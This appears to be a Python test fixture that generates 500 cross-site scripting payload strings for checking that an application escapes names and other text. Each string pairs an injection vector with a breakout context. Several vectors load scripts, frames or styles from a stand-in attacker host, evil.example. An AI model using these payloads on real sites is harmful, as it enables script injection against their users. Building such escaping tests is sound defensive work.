"""Five hundred strings that would run or load something wherever text were taken for markup."""

# Each leaves a mark where it runs. No comma: a comma ends a name in the hub's list of people.
VECTORS = [
    "<script>__ran++</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>__ran++</sCrIpT>",
    "<script>alert(1)</script>", "<img src=x onerror=__ran++>", "<img src=//evil.example/i.png>",
    "<img/src=x/onerror=__ran++>", "<svg onload=__ran++>", "<svg><script>__ran++</script></svg>",
    "<svg><animate onbegin=__ran++ attributeName=x dur=1s>", "<svg/onload=__ran++//", "<body onload=__ran++>",
    "<iframe src=javascript:parent.__ran++></iframe>", "<iframe srcdoc='<script>parent.__ran++</script>'>",
    "<iframe src=//evil.example></iframe>", "<object data=javascript:__ran++>", "<embed src=//evil.example/x.swf>",
    "<a href=javascript:__ran++>点这里</a>", "<a href=\"data:text/html;base64;PHNjcmlwdD4=\">x</a>",
    "<input autofocus onfocus=__ran++>", "<select autofocus onfocus=__ran++>", "<textarea autofocus onfocus=__ran++>",
    "<details open ontoggle=__ran++>", "<video><source onerror=__ran++></video>", "<video src=x onerror=__ran++>",
    "<audio src=x onerror=__ran++>", "<marquee onstart=__ran++>", "<form action=//evil.example><input type=submit>",
    "<button formaction=javascript:__ran++>x</button>", "<math><mi xlink:href=javascript:__ran++>x</mi></math>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/b)}</style>", "<div style=background:url(//evil.example/c)>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<meta http-equiv=Set-Cookie content=a=b>", "<template><script>__ran++</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=__ran++>\">", "<!--<img src=x onerror=__ran++>-->",
    "<![CDATA[<script>__ran++</script>]]>", "{{constructor.constructor('__ran++')()}}", "${__ran++}", "`${__ran++}`",
    "javascript:__ran++", "data:text/html;<script>__ran++</script>", "&lt;script&gt;__ran++&lt;/script&gt;",
    "&#60;img src=x onerror=__ran++&#62;", "\\u003cscript\\u003e__ran++\\u003c/script\\u003e",
    "%3Cscript%3E__ran++%3C/script%3E",
]

# What a string would have to break out of.
CONTEXTS = [
    "{}", "\">{}", "'>{}", "</title>{}", "</script>{}", "</textarea></style>{}", "--> {}", "电梯{}停运",
    "\" onmouseover=__ran++ x=\"{}", "' style=x onfocus=__ran++ y='{}",
]

STRINGS = [context.replace("{}", vector) for vector in VECTORS for context in CONTEXTS]
assert len(STRINGS) == len(set(STRINGS)) == 500 and not any("," in text for text in STRINGS)
